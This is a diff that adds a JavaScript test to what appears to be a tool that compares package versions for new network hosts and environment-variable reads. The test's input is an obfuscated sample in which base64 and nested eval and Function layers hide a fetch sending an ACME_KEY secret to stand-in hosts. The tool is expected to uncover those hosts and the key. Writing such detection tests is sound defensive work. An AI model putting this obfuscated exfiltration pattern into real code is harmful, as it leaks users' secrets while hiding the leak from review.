@@ -20,6 +20,18 @@ describe("a newer version is told by what of it touches the world", () => {
     assert.deepEqual(functions, { matched: 4, same: 4, changed: 0, new: 0, gone: 0 });
   });
 
+  test("code that is kept in texts is compared as well, however deep it is kept", () => {
+    const inner = 'fetch("https://deep.example/" + process.env.ACME_KEY)';
+    const { hosts, variables, changes } = compare(
+      'eval("console.log(1)")',
+      `eval(Buffer.from("${Buffer.from(`new Function(${JSON.stringify(`eval(${JSON.stringify(inner)})`)})()`).toString("base64")}", "base64").toString());
+       new Worker(${JSON.stringify(inner.replace("deep", "worker"))}, { eval: true });`,
+    );
+    assert.deepEqual(hosts.new, ["deep.example", "worker.example"]);
+    assert.deepEqual(variables.new, ["ACME_KEY"]);
+    assert.ok(changes.some(({ code }) => code.some(({ text }) => text.trim() === inner)));
+  });
+
   test("a source that is read anew, with the line that reads it", () => {
     const { changes } = compare(
       'function f(a){a.title="x";return a.send("start",a.title)}',
